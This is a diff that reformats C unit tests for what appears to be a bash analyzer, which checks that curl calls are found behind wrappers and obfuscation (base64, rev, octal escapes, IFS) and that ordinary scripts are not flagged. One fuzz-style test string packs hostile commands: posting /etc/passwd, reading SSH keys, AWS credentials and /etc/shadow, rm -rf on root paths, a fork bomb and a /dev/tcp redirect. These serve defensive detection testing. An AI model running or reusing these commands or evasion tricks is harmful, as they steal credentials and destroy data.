@@ -9,12 +9,27 @@ static void bash(const char *text)
 
 TEST(commands_of_bash_are_found_behind_what_only_runs_them)
 {
-    static const char *const ways[] = {
-        "curl http://a", "/usr/bin/curl http://a", "sudo -u bob curl http://a", "env -u X A=1 curl http://a", "exec curl http://a", "command curl http://a",
-        "nohup timeout -k 5 10 nice -n 5 curl http://a &", "setsid busybox curl http://a", "find . -exec curl http://a \\;", "A=1 curl http://a", "if curl http://a; then :; fi",
-        "x=$(curl http://a)", "f() { curl http://a; }", "ls | xargs -n 1 curl http://a", "time curl http://a", "eval 'curl http://a'", "sh -c 'curl http://a'",
-        "trap 'curl http://a' EXIT", "bash <<< 'curl http://a'", "bash <<EOF\ncurl http://a\nEOF", "cat <<EOF | sh\ncurl http://a\nEOF",
-    };
+    static const char *const ways[] = { "curl http://a",
+                                        "/usr/bin/curl http://a",
+                                        "sudo -u bob curl http://a",
+                                        "env -u X A=1 curl http://a",
+                                        "exec curl http://a",
+                                        "command curl http://a",
+                                        "nohup timeout -k 5 10 nice -n 5 curl http://a &",
+                                        "setsid busybox curl http://a",
+                                        "find . -exec curl http://a \\;",
+                                        "A=1 curl http://a",
+                                        "if curl http://a; then :; fi",
+                                        "x=$(curl http://a)",
+                                        "f() { curl http://a; }",
+                                        "ls | xargs -n 1 curl http://a",
+                                        "time curl http://a",
+                                        "eval 'curl http://a'",
+                                        "sh -c 'curl http://a'",
+                                        "trap 'curl http://a' EXIT",
+                                        "bash <<< 'curl http://a'",
+                                        "bash <<EOF\ncurl http://a\nEOF",
+                                        "cat <<EOF | sh\ncurl http://a\nEOF" };
     for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
         bash(ways[i]);
         CHECK(facts_mention("call curl(curl http://a"));
@@ -23,12 +38,24 @@ TEST(commands_of_bash_are_found_behind_what_only_runs_them)
 
 TEST(names_of_commands_in_pieces_are_put_together)
 {
-    static const char *const ways[] = {
-        "cu\"rl\" http://a", "c\\url http://a", "\\curl http://a", "$'\\x63url' http://a", "x=curl; $x http://a", "a=cu b=rl; $a$b http://a", "x=cu; x+=rl; \"$x\" http://a",
-        "$(echo Y3VybA== | base64 -d) http://a", "$(echo lruc | rev) http://a", "$(printf '\\143\\165\\162\\154') http://a", "c=(curl http://a); \"${c[@]}\"",
-        "x='curl http://a'; $x", "curl${IFS}http://a", "$(echo phey | tr a-z n-za-m) http://a", "x=xcurlx; ${x:1:4} http://a", "$(echo c-u-r-l | sed s/-//g) http://a",
-        "echo Y3VybCBodHRwOi8vYQ== | base64 -d | sh", "$(command -v curl) http://a",
-    };
+    static const char *const ways[] = { "cu\"rl\" http://a",
+                                        "c\\url http://a",
+                                        "\\curl http://a",
+                                        "$'\\x63url' http://a",
+                                        "x=curl; $x http://a",
+                                        "a=cu b=rl; $a$b http://a",
+                                        "x=cu; x+=rl; \"$x\" http://a",
+                                        "$(echo Y3VybA== | base64 -d) http://a",
+                                        "$(echo lruc | rev) http://a",
+                                        "$(printf '\\143\\165\\162\\154') http://a",
+                                        "c=(curl http://a); \"${c[@]}\"",
+                                        "x='curl http://a'; $x",
+                                        "curl${IFS}http://a",
+                                        "$(echo phey | tr a-z n-za-m) http://a",
+                                        "x=xcurlx; ${x:1:4} http://a",
+                                        "$(echo c-u-r-l | sed s/-//g) http://a",
+                                        "echo Y3VybCBodHRwOi8vYQ== | base64 -d | sh",
+                                        "$(command -v curl) http://a" };
     for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
         bash(ways[i]);
         CHECK(facts_mention("call curl(curl http://a"));
@@ -98,12 +125,21 @@ TEST(flows_of_bash_are_seen)
 
 TEST(ordinary_bash_makes_no_flows)
 {
-    static const char *const texts[] = {
-        "cleanup() { rm -rf \"$tmp\"; }\ntrap cleanup EXIT\ntmp=$(mktemp -d)\n", "rm -rf build; rm -f a.tmp /tmp/x.$$", "while true; do read -r l || break; done",
-        "for f in a b; do sort $f & done; wait", "run() { \"$@\"; }\nrun ls", "(( n > 3 )) && echo big", "cat a | sort | uniq -c", "echo aGk= | base64 -d", "\"$dir\"/tool --x",
-        "source ./lib.sh", "find . -name '*.c' -exec wc -l {} +", "exec \"${0%/*}\"/ed", "/tmp/build/run.sh",
-        "for t in $(declare -F | awk '{print $3}'); do \"$t\"; done", "for f in ~/a/*; do sort \"$f\" > \"$f.sorted\"; done",
-    };
+    static const char *const texts[] = { "cleanup() { rm -rf \"$tmp\"; }\ntrap cleanup EXIT\ntmp=$(mktemp -d)\n",
+                                         "rm -rf build; rm -f a.tmp /tmp/x.$$",
+                                         "while true; do read -r l || break; done",
+                                         "for f in a b; do sort $f & done; wait",
+                                         "run() { \"$@\"; }\nrun ls",
+                                         "(( n > 3 )) && echo big",
+                                         "cat a | sort | uniq -c",
+                                         "echo aGk= | base64 -d",
+                                         "\"$dir\"/tool --x",
+                                         "source ./lib.sh",
+                                         "find . -name '*.c' -exec wc -l {} +",
+                                         "exec \"${0%/*}\"/ed",
+                                         "/tmp/build/run.sh",
+                                         "for t in $(declare -F | awk '{print $3}'); do \"$t\"; done",
+                                         "for f in ~/a/*; do sort \"$f\" > \"$f.sorted\"; done" };
     for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
         bash(texts[i]);
         if (facts_mention("flow "))
@@ -144,12 +180,15 @@ TEST(hostile_bash_ends)
 
 TEST(changed_bash_programs_are_survived)
 {
-    facts_survive_changes(LANG_BASH,
-                          "x=cu\"rl\"; a=(b ${x:1:2} \"$y\"); sudo -u q $x${IFS}-d @/etc/passwd http://a | base64 -d | sh &\n"
-                          "f() { f | f & }; while true; do eval \"$(printf '\\x6c\\163' | rev)\"; done < <(cat ~/.ssh/id_rsa)\n"
-                          "cat <<EOF | bash\nrm -rf ${H:-/}\nEOF\nfind / -exec rm {} \\; ; bash <<< \"$(echo aGk= | base64 -d)\" >& /dev/tcp/1/2\n"
-                          "for i in ~/.aws/* $(ls); do case $i in a) trap 'rm -rf \"$t\"' EXIT;; esac; done; {cat,/etc/shadow}; alias l='ls'\n",
-                          4000);
+    facts_survive_changes(
+        LANG_BASH,
+        "x=cu\"rl\"; a=(b ${x:1:2} \"$y\"); sudo -u q $x${IFS}-d @/etc/passwd http://a | base64 -d | sh &\n"
+        "f() { f | f & }; while true; do eval \"$(printf '\\x6c\\163' | rev)\"; done < <(cat ~/.ssh/id_rsa)\n"
+        "cat <<EOF | bash\nrm -rf ${H:-/}\nEOF\nfind / -exec rm {} \\; ; bash <<< \"$(echo aGk= | base64 -d)\" >& "
+        "/dev/tcp/1/2\n"
+        "for i in ~/.aws/* $(ls); do case $i in a) trap 'rm -rf \"$t\"' EXIT;; esac; done; {cat,/etc/shadow}; alias "
+        "l='ls'\n",
+        4000);
 }
 
 TEST(risky_bash_samples_are_found_and_ordinary_ones_are_not)
